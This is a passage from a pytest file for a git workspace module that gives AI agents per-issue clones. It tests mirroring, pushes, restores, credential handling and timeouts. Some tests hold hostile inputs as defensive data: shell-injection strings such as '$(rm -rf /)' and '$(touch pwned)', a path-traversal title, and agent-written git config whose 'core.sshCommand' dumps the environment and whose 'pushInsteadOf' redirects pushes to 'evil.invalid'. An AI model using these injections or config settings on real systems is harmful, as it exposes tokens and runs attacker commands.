"""Fleet git workspaces against real git: a bare "upstream" repo in tmp_path, the shared
mirror, per-issue clones, commit and push, resumed branches, credentials and timeouts."""

from __future__ import annotations

import base64
import contextlib
import functools
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import psutil
import pytest

import flows.fleet.workspace as workspace_module
from flows.fleet.models import Issue
from flows.fleet.workspace import (
    GitAuth,
    Mirror,
    Workspace,
    WorkspaceError,
    prepare_workspace,
    run_git,
)
from tests.conftest import wait_until_gone

TOKEN = "ghs_s3cretTokenValue1234567890"
AUTHOR = ("Fleet Bot", "fleet-bot@example.com")


@pytest.fixture(autouse=True)
def _isolated_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No user-level git config or proxies: the module passes HOME and proxies through."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.delenv(name, raising=False)


def git(cwd: Path, *args: str) -> str:
    """Plain git for test setup and inspection (not the module under test)."""
    env = {
        "PATH": os.environ["PATH"],
        "HOME": os.environ["HOME"],
        "GIT_AUTHOR_NAME": "Upstream Dev",
        "GIT_AUTHOR_EMAIL": "dev@example.com",
        "GIT_COMMITTER_NAME": "Upstream Dev",
        "GIT_COMMITTER_EMAIL": "dev@example.com",
    }
    result = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True,
                            timeout=30, check=True)  # fmt: skip
    return result.stdout.strip()


class Upstream:
    """A bare repository with one commit on `main`, plus a clone to add commits with."""

    def __init__(self, root: Path) -> None:
        self.bare = root / "upstream.git"
        self.seed = root / "seed"
        git(root, "init", "--quiet", "--bare", "--initial-branch=main", str(self.bare))
        git(root, "clone", "--quiet", str(self.bare), str(self.seed))
        git(self.seed, "checkout", "--quiet", "-b", "main")
        self.commit("README.md", "hello\n")

    @property
    def url(self) -> str:
        return self.bare.as_uri()

    def commit(self, name: str, content: str) -> str:
        (self.seed / name).write_text(content)
        git(self.seed, "add", name)
        git(self.seed, "commit", "--quiet", "-m", f"add {name}")
        git(self.seed, "push", "--quiet", "origin", "main")
        git(self.bare, "update-server-info")  # for the dumb-HTTP server test
        return git(self.seed, "rev-parse", "HEAD")

    def rev(self, ref: str) -> str:
        return git(self.bare, "rev-parse", "--verify", ref)


@pytest.fixture
def upstream(tmp_path: Path) -> Upstream:
    return Upstream(tmp_path)


@pytest.fixture
def mirror(tmp_path: Path, upstream: Upstream) -> Mirror:
    mirror = Mirror(tmp_path / "fleet", upstream.url)
    mirror.ensure()
    return mirror


def test_mirror_is_created_then_refreshed(tmp_path: Path, upstream: Upstream) -> None:
    root = tmp_path / "fleet"
    mirror = Mirror(root, upstream.url)
    assert not mirror.exists()
    mirror.ensure()
    assert mirror.exists() and mirror.path.parent == root / ".mirror"
    assert "-upstream-" in mirror.path.name and mirror.path.suffix == ".git"

    new = upstream.commit("NEWS.md", "news\n")
    stale = prepare_workspace(mirror, root, "worker-01", 1, "main")
    assert not (stale.path / "NEWS.md").exists()

    mirror.ensure()
    fresh = prepare_workspace(mirror, root, "worker-02", 1, "main")
    assert (fresh.path / "NEWS.md").read_text() == "news\n"
    assert fresh.base == new


def test_prepare_needs_a_mirror(tmp_path: Path, upstream: Upstream) -> None:
    with pytest.raises(WorkspaceError, match=r"call Mirror\.ensure\(\) first"):
        prepare_workspace(Mirror(tmp_path, upstream.url), tmp_path, "worker-01", 1, "main")


def test_workspaces_are_isolated(tmp_path: Path, mirror: Mirror) -> None:
    root = tmp_path / "fleet"
    one = prepare_workspace(mirror, root, "worker-01", 1, "main")
    two = prepare_workspace(mirror, root, "worker-02", 2, "main")
    assert one.path == root / "worker-01" / "issue-1"
    assert two.path == root / "worker-02" / "issue-2"
    assert (one.branch, two.branch) == ("ai-feature/issue-1", "ai-feature/issue-2")
    assert git(one.path, "branch", "--show-current") == "ai-feature/issue-1"
    assert git(two.path, "branch", "--show-current") == "ai-feature/issue-2"

    (one.path / "only-in-one.txt").write_text("1\n")
    assert not (two.path / "only-in-one.txt").exists()
    assert one.changed_files() == ["only-in-one.txt"]
    assert two.changed_files() == []


def test_commit_all_and_push_create_the_branch_upstream(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 3, "main")
    (ws.path / "README.md").write_text("hello, fleet\n")
    (ws.path / "src").mkdir()
    (ws.path / "src" / "feature.py").write_text("x = 1\n")
    message = "Fix #3: naïve café\n\n# not a comment\n$(rm -rf /) `id`\n"

    sha = ws.commit_all(message, *AUTHOR)
    assert sha is not None
    assert ws.changed_files() == ["README.md", "src/feature.py"]
    ws.push()

    assert upstream.rev("refs/heads/ai-feature/issue-3") == sha
    assert git(upstream.bare, "log", "-1", "--format=%B", sha) == message.strip()
    assert git(upstream.bare, "log", "-1", "--format=%an <%ae>|%cn <%ce>", sha) == (
        "Fleet Bot <fleet-bot@example.com>|Fleet Bot <fleet-bot@example.com>"
    )
    assert git(ws.path, "remote", "get-url", "origin") == upstream.url  # not the mirror

    (ws.path / "src" / "feature.py").write_text("x = 2\n")
    second = ws.commit_all("second", *AUTHOR)
    ws.push()  # the lease follows the first push
    assert upstream.rev("refs/heads/ai-feature/issue-3") == second
    git(upstream.bare, "fsck", "--strict", "--no-progress")  # every object arrived


def test_a_workspace_borrows_the_mirrors_objects_and_holds_only_its_own_refs(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    """Making a workspace writes a handful of files however big the mirror is: no object
    copied, no ref per remote branch; plain git still sees a complete repository, with the
    default branch and the tags a clone has."""
    git(upstream.seed, "tag", "--annotate", "--message", "first release", "v1.0")
    git(upstream.seed, "push", "--quiet", "origin", "v1.0")
    for number in range(1, 41):  # other issues' branches, and their objects
        git(upstream.seed, "checkout", "--quiet", "-b", f"ai-feature/issue-{number}", "main")
        upstream.commit(f"f{number}.txt", f"{number}\n")
        git(upstream.seed, "push", "--quiet", "origin", f"ai-feature/issue-{number}")
    git(upstream.seed, "checkout", "--quiet", "main")
    mirror.ensure()

    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 41, "main")
    files = sorted(str(p.relative_to(ws.path / ".git")) for p in (ws.path / ".git").rglob("*"))
    assert files == ["HEAD", "config", "index", "info", "objects", "objects/info",
                     "objects/info/alternates", "packed-refs", "refs"]  # fmt: skip
    assert git(ws.path, "for-each-ref", "--format=%(refname)").splitlines() == [
        "refs/heads/ai-feature/issue-41", "refs/heads/main", "refs/remotes/origin/main",
        "refs/tags/v1.0"]  # fmt: skip
    assert git(ws.path, "rev-parse", "HEAD", "main", "origin/main").splitlines() == [
        upstream.rev("main")] * 3  # fmt: skip
    assert git(ws.path, "describe") == "v1.0"  # annotated tags peel as in a clone
    assert git(ws.path, "status", "--porcelain") == ""
    git(ws.path, "fsck", "--strict", "--no-progress")
    (ws.path / ".git" / "info" / "exclude").write_text("*.log\n")  # as a user may
    git(ws.path, "checkout", "--quiet", "main")
    git(ws.path, "checkout", "--quiet", "-")  # the reflog knows where it was
    assert git(ws.path, "branch", "--show-current") == ws.branch

    resumed = prepare_workspace(mirror, tmp_path / "fleet", "worker-02", 7, "main")
    assert resumed.resumed
    assert git(resumed.path, "rev-parse", "--abbrev-ref", "@{upstream}") == (
        "origin/ai-feature/issue-7"
    )
    assert (resumed.path / "f7.txt").read_text() == "7\n"


def test_the_mirror_never_prunes_what_a_workspace_borrows(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    """A branch deleted upstream leaves its commits unreachable in the mirror; a kept
    workspace on that branch still reads them after the mirror's gc, however old."""
    git(upstream.seed, "checkout", "--quiet", "-b", "ai-feature/issue-8", "main")
    pushed = upstream.commit("gone.txt", "soon unreachable\n")
    git(upstream.seed, "push", "--quiet", "origin", "ai-feature/issue-8")
    mirror.ensure()
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 8, "main")
    assert ws.resumed

    git(upstream.seed, "push", "--quiet", "origin", "--delete", "ai-feature/issue-8")
    mirror.ensure()  # fetch --prune: the branch is gone from the mirror
    month_ago = time.time() - 30 * 86400
    for path in (mirror.path / "objects").rglob("*"):
        os.utime(path, (month_ago, month_ago))
    git(mirror.path, "gc", "--quiet")  # with git's default, prunes what is 2 weeks old

    assert git(ws.path, "cat-file", "-p", f"{pushed}:gone.txt") == "soon unreachable"
    git(ws.path, "fsck", "--strict", "--no-progress")
    loose = git(mirror.path, "count-objects", "-v").splitlines()[0]
    assert loose == "count: 0"  # kept in a pack, not piling up as loose files


def test_nothing_to_commit_returns_none(tmp_path: Path, mirror: Mirror) -> None:
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 4, "main")
    head = git(ws.path, "rev-parse", "HEAD")
    assert ws.commit_all("nothing", *AUTHOR) is None
    assert git(ws.path, "rev-parse", "HEAD") == head


def test_rerun_continues_from_the_remote_branch(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    root = tmp_path / "fleet"
    main = upstream.rev("refs/heads/main")
    first = prepare_workspace(mirror, root, "worker-01", 5, "main")
    assert not first.resumed
    (first.path / "part1.txt").write_text("done before the crash\n")
    sha = first.commit_all("part 1", *AUTHOR)
    first.push()
    (first.path / "lost.txt").write_text("uncommitted, lost in the crash\n")

    mirror.ensure()
    again = prepare_workspace(mirror, root, "worker-03", 5, "main")
    assert again.resumed and again.base == main
    assert git(again.path, "rev-parse", "HEAD") == sha
    assert (again.path / "part1.txt").exists()
    assert again.changed_files() == ["part1.txt"]

    (again.path / "part2.txt").write_text("after the rerun\n")
    second = again.commit_all("part 2", *AUTHOR)
    again.push()
    assert upstream.rev("refs/heads/ai-feature/issue-5") == second
    assert git(upstream.bare, "rev-parse", f"{second}^") == sha


def test_stale_mirror_cannot_overwrite_a_pushed_branch(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    root = tmp_path / "fleet"
    first = prepare_workspace(mirror, root, "worker-01", 6, "main")
    (first.path / "a.txt").write_text("a\n")
    pushed = first.commit_all("a", *AUTHOR)
    first.push()

    stale = prepare_workspace(mirror, root, "worker-02", 6, "main")  # no ensure() in between
    assert not stale.resumed
    (stale.path / "b.txt").write_text("b\n")
    stale.commit_all("b", *AUTHOR)
    with pytest.raises(WorkspaceError, match=r"git push failed.*rejected \(stale info"):
        stale.push()
    assert upstream.rev("refs/heads/ai-feature/issue-6") == pushed
    assert not list(upstream.bare.rglob("*.lock"))  # the ref's lock was let go

    mirror.ensure()
    fresh = prepare_workspace(mirror, root, "worker-03", 6, "main")
    (fresh.path / "c.txt").write_text("c\n")
    after = fresh.commit_all("c", *AUTHOR)
    fresh.push()
    assert upstream.rev("refs/heads/ai-feature/issue-6") == after


@pytest.fixture
def git_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The subcommand of every git process the workspace module starts, in order."""
    calls: list[str] = []
    real = workspace_module.run_git

    def counting(args: list[str], **kwargs: Any) -> subprocess.CompletedProcess[str]:
        calls.append(workspace_module._subcommand(args))
        return real(args, **kwargs)

    monkeypatch.setattr(workspace_module, "run_git", counting)
    return calls


def test_local_work_starts_no_git_process(
    tmp_path: Path, upstream: Upstream, mirror: Mirror, git_calls: list[str]
) -> None:
    """Cloning, branching, listing changes, committing and pushing to a remote on this
    disk all run in-process: each git process costs a few ms of CPU on a box that every
    worker shares."""
    root = tmp_path / "fleet"
    ws = prepare_workspace(mirror, root, "worker-01", 9, "main")
    (ws.path / "fix.py").write_text("fixed = True\n")
    assert ws.changed_files() == ["fix.py"]
    sha = ws.commit_all("fix", *AUTHOR)
    ws.push()
    ws.cleanup()
    assert git_calls == []
    assert upstream.rev("refs/heads/ai-feature/issue-9") == sha

    mirror.ensure()
    git_calls.clear()
    again = prepare_workspace(mirror, root, "worker-02", 9, "main")
    assert again.resumed and git(again.path, "rev-parse", "HEAD") == sha
    upstream_branch = git(again.path, "rev-parse", "--abbrev-ref", "@{upstream}")
    assert upstream_branch == "origin/ai-feature/issue-9"
    (again.path / "more.py").write_text("more = True\n")
    assert again.changed_files() == ["fix.py", "more.py"]
    second = again.commit_all("more", *AUTHOR)
    again.push()
    assert git_calls == []
    assert upstream.rev("refs/heads/ai-feature/issue-9") == second


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("/srv/git/repo.git", True),
        ("relative/repo.git", True),
        ("./odd:name.git", True),
        ("file:///srv/git/repo.git", True),
        ("https://github.com/o/r.git", False),
        ("ssh://git@github.com/o/r.git", False),
        ("git@github.com:o/r.git", False),
    ],
)
def test_local_remotes_are_told_from_network_ones(url: str, local: bool) -> None:
    assert workspace_module.is_local_url(url) is local


def _reference_changed_files(ws: Workspace) -> list[str]:
    """The definition: the worktree against `base`, plus untracked files."""
    tracked = git(ws.path, "diff", "--name-only", "--no-renames", "-z", ws.base, "--")
    untracked = git(ws.path, "ls-files", "--others", "--exclude-standard", "-z")
    return sorted({name for name in (tracked + "\0" + untracked).split("\0") if name})


def test_changed_files_matches_diff_against_base_plus_untracked(
    tmp_path: Path, upstream: Upstream, mirror: Mirror, git_calls: list[str]
) -> None:
    for name in ("a.txt", "b.txt", "c.txt", "d.txt"):
        upstream.commit(name, f"{name}\n")
    mirror.ensure()
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 11, "main")
    assert ws.changed_files() == _reference_changed_files(ws) == []

    (ws.path / "a.txt").write_text("changed\n")
    (ws.path / "b.txt").unlink()
    (ws.path / "src" / "new").mkdir(parents=True)
    (ws.path / "src" / "new" / "mod.py").write_text("x = 1\n")
    (ws.path / ".gitignore").write_text("*.log\n")
    (ws.path / "debug.log").write_text("ignored\n")
    (ws.path / "name with spaces.txt").write_text("s\n")
    git_calls.clear()
    expected = [".gitignore", "a.txt", "b.txt", "name with spaces.txt", "src/new/mod.py"]
    assert ws.changed_files() == _reference_changed_files(ws) == expected
    assert git_calls == []  # in-process

    # Staged, then changed back in the worktree: not a change against base.
    (ws.path / "c.txt").write_text("staged\n")
    git(ws.path, "add", "c.txt")
    (ws.path / "c.txt").write_text("c.txt\n")
    git(ws.path, "mv", "d.txt", "e.txt")
    (ws.path / "planned.txt").write_text("p\n")
    git(ws.path, "add", "--intent-to-add", "planned.txt")
    assert ws.changed_files() == _reference_changed_files(ws)
    assert "c.txt" not in ws.changed_files() and "e.txt" in ws.changed_files()

    # The agent committed: HEAD moved away from base.
    git(ws.path, "add", "--all")
    git(ws.path, "commit", "--quiet", "-m", "agent commit")
    (ws.path / "a.txt").write_text("a.txt\n")  # committed, then reverted in the worktree
    (ws.path / "late.txt").write_text("late\n")
    assert ws.changed_files() == _reference_changed_files(ws)
    assert "a.txt" not in ws.changed_files() and "late.txt" in ws.changed_files()


def _files(root: Path) -> dict[str, str]:
    return {
        str(path.relative_to(root)): path.read_text()
        for path in root.rglob("*")
        if path.is_file() and ".git" not in path.relative_to(root).parts
    }


def test_restore_undoes_everything_an_attempt_did_since_the_snapshot(
    tmp_path: Path, upstream: Upstream, mirror: Mirror
) -> None:
    """A transient model error retries the agent: its second attempt must start from
    what the first one started from, not from the first one's half-done work, however
    that work was hidden."""
    upstream.commit("b.txt", "b\n")
    (upstream.seed / "src").mkdir()
    upstream.commit("src/m.py", "m\n")
    mirror.ensure()
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 13, "main")
    (ws.path / "a.txt").write_text("an earlier round's change\n")
    (ws.path / ".gitignore").write_text("*.log\n")
    (ws.path / "build.log").write_text("ignored\n")
    before, changed_before = _files(ws.path), ws.changed_files()
    config_before = (ws.path / ".git" / "config").read_bytes()
    snapshot = ws.snapshot()

    outside = tmp_path / "outside"
    outside.mkdir()
    (ws.path / "a.txt").write_text("overwritten\n")
    (ws.path / "b.txt").unlink()
    (ws.path / "scratch" / "deep").mkdir(parents=True)
    (ws.path / "scratch" / "deep" / "debug.py").write_text("breakpoint()\n")
    (ws.path / "staged.txt").write_text("s\n")
    git(ws.path, "add", "staged.txt")
    (ws.path / ".gitignore").write_text("*.log\nhidden.txt\n")  # hides its own junk
    (ws.path / "hidden.txt").write_text("junk\n")
    (ws.path / "sub").mkdir()
    (ws.path / "sub" / ".gitignore").write_text("*\n")  # an untracked one, hiding all
    (ws.path / "sub" / "x.py").write_text("x\n")
    (ws.path / ".git" / "info" / "exclude").write_text("leftover.py\n")
    (ws.path / "leftover.py").write_text("l\n")
    git(ws.path, "add", "--all")
    git(ws.path, "commit", "--quiet", "-m", "the attempt committed")
    shutil.rmtree(ws.path / "src")
    (ws.path / "src").symlink_to(outside)  # a folder turned into a link out
    git(ws.path, "init", "--quiet", "vendor")  # a nested repository
    git(ws.path, "config", "core.excludesFile", str(tmp_path / "nowhere"))
    git(ws.path, "checkout", "--quiet", "-b", "elsewhere")
    git(ws.path, "gc", "--quiet", "--prune=now")  # the snapshot's objects must survive
    (ws.path / "late.log").write_text("l\n")

    ws.restore(snapshot)

    assert _files(ws.path) == {k: v for k, v in before.items() if k != "build.log"}
    assert not (ws.path / "src").is_symlink() and list(outside.iterdir()) == []
    assert ws.changed_files() == changed_before == [".gitignore", "a.txt"]
    assert git(ws.path, "rev-parse", "HEAD") == snapshot.head
    assert git(ws.path, "symbolic-ref", "--short", "HEAD") == ws.branch
    status = git(ws.path, "status", "--porcelain", "--untracked-files=all", "--ignored")
    assert status.splitlines() == ["A  .gitignore", "A  a.txt"]
    assert (ws.path / ".git" / "config").read_bytes() == config_before
    assert ws.commit_all("retry", *AUTHOR) is not None  # nothing left that cannot commit


def test_commit_failure_is_not_mistaken_for_nothing_to_commit(
    tmp_path: Path, mirror: Mirror
) -> None:
    ws = prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 12, "main")
    (ws.path / "f.txt").write_text("f\n")
    with pytest.raises(WorkspaceError, match=r"git commit failed .*empty commit message"):
        ws.commit_all("", *AUTHOR)  # git commit exits 1 here too


def test_leftover_workspace_dir_is_replaced(tmp_path: Path, mirror: Mirror) -> None:
    root = tmp_path / "fleet"
    leftover = root / "worker-01" / "issue-7"
    (leftover / "junk").mkdir(parents=True)
    (leftover / "junk" / "half-written.txt").write_text("x")
    ws = prepare_workspace(mirror, root, "worker-01", 7, "main")
    assert ws.path == leftover
    assert not (leftover / "junk").exists()
    assert (leftover / "README.md").exists()
    ws.cleanup()
    assert not leftover.exists()


def test_concurrent_ensure_does_not_corrupt_the_mirror(tmp_path: Path, upstream: Upstream) -> None:
    mirror = Mirror(tmp_path / "fleet", upstream.url)
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda _: mirror.ensure(), range(4)))
    assert results == [None] * 4
    git(mirror.path, "fsck", "--strict", "--no-progress")
    assert git(mirror.path, "rev-parse", "refs/heads/main") == upstream.rev("refs/heads/main")
    assert not mirror.path.with_name(mirror.path.name + ".partial").exists()


def test_issue_title_never_reaches_paths_or_branches(tmp_path: Path, mirror: Mirror) -> None:
    root = tmp_path / "fleet"
    title = "$(touch pwned); `id` && ../../etc/passwd ☃ 'quote\" --upload-pack=evil"
    issue = Issue(number=42, title=title)
    ws = prepare_workspace(mirror, root, "worker-01", issue.number, "main")
    assert ws.path == root / "worker-01" / "issue-42"
    assert ws.branch == issue.branch == "ai-feature/issue-42"
    (ws.path / "f.txt").write_text("f\n")
    sha = ws.commit_all(title, *AUTHOR)
    assert sha is not None
    assert git(ws.path, "log", "-1", "--format=%B") == title
    assert not any(p.name == "pwned" for p in tmp_path.rglob("pwned"))


@pytest.mark.parametrize("worker", ["../x", "a/b", "", "-rf", ".hidden", "w\n1"])
def test_bad_worker_names_are_refused(tmp_path: Path, mirror: Mirror, worker: str) -> None:
    with pytest.raises(ValueError, match="invalid worker name"):
        prepare_workspace(mirror, tmp_path / "fleet", worker, 1, "main")


def test_unknown_default_branch(tmp_path: Path, mirror: Mirror) -> None:
    with pytest.raises(WorkspaceError, match="default branch 'trunk' not found"):
        prepare_workspace(mirror, tmp_path / "fleet", "worker-01", 1, "trunk")


def test_credential_helper_answers_from_env_for_the_remote_host_only(tmp_path: Path) -> None:
    auth = GitAuth(TOKEN)
    url = "https://github.com/owner/repo.git"
    assert TOKEN not in " ".join(auth.config_args(url))
    assert TOKEN not in repr(auth)

    query = "protocol=https\nhost=github.com\npath=owner/repo.git\n\n"
    out = run_git(["credential", "fill"], cwd=tmp_path, auth=auth, url=url, stdin=query).stdout
    assert f"username=x-access-token\npassword={TOKEN}\n" in out

    other = "protocol=https\nhost=evil.example\n\n"
    with pytest.raises(WorkspaceError, match="git credential failed") as excinfo:
        run_git(["credential", "fill"], cwd=tmp_path, auth=auth, url=url, stdin=other)
    assert TOKEN not in str(excinfo.value)

    # The helper holds no secret: without GIT_PASSWORD in its environment it has none.
    helper_argv = ["git", *auth.config_args(url), "credential", "fill"]
    env = {**auth.env(), "GIT_PASSWORD": ""}
    done = subprocess.run(helper_argv, cwd=tmp_path, env=env, input=query, text=True,
                          capture_output=True, timeout=30)  # fmt: skip
    assert TOKEN not in done.stdout + done.stderr


def test_scrub_removes_userinfo_and_token() -> None:
    auth = GitAuth(TOKEN)
    text = f"fatal: unable to access 'https://bot:{TOKEN}@github.com/o/r.git/': 403 {TOKEN}"
    scrubbed = auth.scrub(text)
    assert TOKEN not in scrubbed and "bot:" not in scrubbed
    assert "https://***@github.com/o/r.git/" in scrubbed


def test_clone_url_with_credentials_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="must not carry credentials") as excinfo:
        Mirror(tmp_path, f"https://x-access-token:{TOKEN}@github.com/o/r.git")
    assert TOKEN not in str(excinfo.value)


class _AuthServer:
    """Dumb-HTTP git server for a bare repo behind Basic auth, on loopback. Records the
    Authorization headers it got and whether the token showed up in any process argv."""

    def __init__(self, directory: Path, token: str) -> None:
        self.expected = "Basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
        self.token = token
        self.authorizations: list[str] = []
        self.token_in_argv: list[list[str]] = []
        handler = functools.partial(self._Handler, self, directory=str(directory))
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/repo.git"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def scan_argv(self) -> None:
        for proc in psutil.process_iter(["cmdline"]):
            cmdline = proc.info["cmdline"] or []
            if any(self.token in arg for arg in cmdline):
                self.token_in_argv.append(cmdline)

    class _Handler(SimpleHTTPRequestHandler):
        def __init__(self, server_state: _AuthServer, *args: Any, **kwargs: Any) -> None:
            self.state = server_state
            super().__init__(*args, **kwargs)

        def translate_path(self, path: str) -> str:
            return super().translate_path(path.removeprefix("/repo.git"))

        def do_GET(self) -> None:
            header = self.headers.get("Authorization")
            if header is None:
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            self.state.authorizations.append(header)
            self.state.scan_argv()
            if header != self.state.expected:
                self.send_error(403)
                return
            super().do_GET()

        def log_message(self, format: str, *args: Any) -> None:
            pass


@pytest.fixture
def auth_server(upstream: Upstream) -> Iterator[_AuthServer]:
    server = _AuthServer(upstream.bare, TOKEN)
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


def test_token_reaches_the_server_but_no_argv_file_or_error(
    tmp_path: Path, auth_server: _AuthServer, git_calls: list[str]
) -> None:
    root = tmp_path / "fleet"
    mirror = Mirror(root, auth_server.url, auth=GitAuth(TOKEN), timeout=30)
    mirror.ensure()
    ws = prepare_workspace(mirror, root, "worker-01", 8, "main")
    assert (ws.path / "README.md").read_text() == "hello\n"
    assert auth_server.expected in auth_server.authorizations
    assert auth_server.token_in_argv == []
    assert TOKEN not in repr(ws) and TOKEN not in repr(mirror)

    for path in root.rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path

    (ws.path / "f.txt").write_text("f\n")
    ws.commit_all("f", *AUTHOR)
    git_calls.clear()
    with pytest.raises(WorkspaceError, match="git push failed") as excinfo:
        ws.push()  # dumb HTTP cannot receive pushes
    assert git_calls == ["push"]  # a network remote: the git CLI
    assert TOKEN not in str(excinfo.value)


def test_wrong_token_fails_without_prompting_or_leaking(
    tmp_path: Path, auth_server: _AuthServer
) -> None:
    wrong = "ghs_wrongTokenValue0987654321"
    mirror = Mirror(tmp_path / "fleet", auth_server.url, auth=GitAuth(wrong), timeout=30)
    with pytest.raises(WorkspaceError, match="git clone failed") as excinfo:
        mirror.ensure()
    assert wrong not in str(excinfo.value)
    assert not mirror.exists()


def test_timeout_kills_the_process_group(tmp_path: Path) -> None:
    with socket.socket() as blackhole:  # accepts connections (backlog), never answers
        blackhole.bind(("127.0.0.1", 0))
        blackhole.listen(8)
        url = f"http://127.0.0.1:{blackhole.getsockname()[1]}/repo.git"
        mirror = Mirror(tmp_path / "fleet", url, timeout=1.0)
        seen: set[int] = set()
        stop = threading.Event()

        def watch() -> None:
            while not stop.is_set():
                for proc in psutil.process_iter(["cmdline"]):
                    if url in " ".join(proc.info["cmdline"] or []):
                        seen.add(proc.pid)
                time.sleep(0.05)

        watcher = threading.Thread(target=watch, daemon=True)
        watcher.start()
        started = time.monotonic()
        try:
            with pytest.raises(WorkspaceError, match=r"git clone timed out after 1s"):
                mirror.ensure()
        finally:
            stop.set()
            watcher.join()
    assert time.monotonic() - started < 6
    assert len(seen) >= 2  # git clone and its git-remote-http child
    assert all(wait_until_gone(pid) for pid in seen)
    assert not mirror.exists()
    assert not mirror.path.with_name(mirror.path.name + ".partial").exists()


def test_an_interrupted_git_call_kills_its_process_group(tmp_path: Path) -> None:
    """Ctrl-C during a clone (the mirror's update runs in the main thread): git and its
    helper do not live on, orphaned, after the interrupt."""
    seen: set[int] = set()
    with socket.socket() as blackhole:  # accepts connections (backlog), never answers
        blackhole.bind(("127.0.0.1", 0))
        blackhole.listen(8)
        url = f"http://127.0.0.1:{blackhole.getsockname()[1]}/repo.git"

        ended = threading.Event()  # the clone ended without the interrupt: send none

        def interrupt_once_git_runs() -> None:
            deadline = time.monotonic() + 30
            while len(seen) < 2 and time.monotonic() < deadline and not ended.is_set():
                for proc in psutil.process_iter(["cmdline"]):
                    if url in " ".join(proc.info["cmdline"] or []):
                        seen.add(proc.pid)
                time.sleep(0.05)
            if not ended.is_set():
                os.kill(os.getpid(), signal.SIGINT)

        interrupter = threading.Thread(target=interrupt_once_git_runs)
        interrupter.start()
        try:
            with pytest.raises(KeyboardInterrupt):
                try:
                    Mirror(tmp_path / "fleet", url, timeout=600).ensure()
                finally:
                    ended.set()
            interrupter.join()
            assert len(seen) >= 2  # git clone and its git-remote-http child
            assert all(wait_until_gone(pid) for pid in seen)
        finally:
            for pid in seen:  # the test's own leftovers, if it failed
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)


@pytest.fixture
def daemon_url(upstream: Upstream) -> Iterator[str]:
    """`git daemon` serving the upstream, pushes allowed: a network remote (git://) on
    loopback, which the workspace pushes to with the git CLI."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    base = upstream.bare.parent
    daemon = subprocess.Popen(
        ["git", "daemon", "--reuseaddr", "--export-all", "--enable=receive-pack",
         "--listen=127.0.0.1", f"--port={port}", f"--base-path={base}", str(base)],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 10
        while True:
            with socket.socket() as client:
                if client.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert time.monotonic() < deadline, "git daemon did not start"
            time.sleep(0.05)
        yield f"git://127.0.0.1:{port}/{upstream.bare.name}"
    finally:
        os.killpg(daemon.pid, 15)
        daemon.wait(10)


def test_network_push_creates_updates_and_refuses_a_stale_lease(
    tmp_path: Path, upstream: Upstream, daemon_url: str, git_calls: list[str]
) -> None:
    root = tmp_path / "fleet"
    mirror = Mirror(root, daemon_url, timeout=30)
    mirror.ensure()
    ws = prepare_workspace(mirror, root, "worker-01", 9, "main")
    (ws.path / "a.txt").write_text("a\n")
    first = ws.commit_all("a", *AUTHOR)
    git_calls.clear()
    ws.push()
    assert git_calls == ["push"]
    assert upstream.rev("refs/heads/ai-feature/issue-9") == first

    (ws.path / "a.txt").write_text("a, again\n")
    second = ws.commit_all("again", *AUTHOR)
    ws.push()  # the lease follows the first push
    assert upstream.rev("refs/heads/ai-feature/issue-9") == second
    git(upstream.bare, "fsck", "--strict", "--no-progress")

    stale = prepare_workspace(mirror, root, "worker-02", 9, "main")  # the mirror predates both
    (stale.path / "b.txt").write_text("b\n")
    stale.commit_all("b", *AUTHOR)
    with pytest.raises(WorkspaceError, match="git push failed") as excinfo:
        stale.push()
    assert f"failed in {stale.path} " in str(excinfo.value)  # not the push's private folder
    assert upstream.rev("refs/heads/ai-feature/issue-9") == second


def test_network_push_ignores_what_the_agent_wrote_in_the_workspace_git_config(
    tmp_path: Path, upstream: Upstream, daemon_url: str
) -> None:
    """The agent can run `git config` in its workspace; the push, which holds the token,
    must not run the programs such settings name."""
    root = tmp_path / "fleet"
    mirror = Mirror(root, daemon_url, auth=GitAuth(TOKEN), timeout=30)
    mirror.ensure()
    ws = prepare_workspace(mirror, root, "worker-01", 10, "main")
    leak = tmp_path / "leaked-env"
    grab = f"sh -c 'env > {leak}; exit 1'"
    included = tmp_path / "included.gitconfig"
    included.write_text(f"[core]\n\tsshCommand = {grab}\n")
    for key, value in [
        ("url.ssh://git@evil.invalid/.pushInsteadOf", daemon_url),
        ("core.sshCommand", grab),
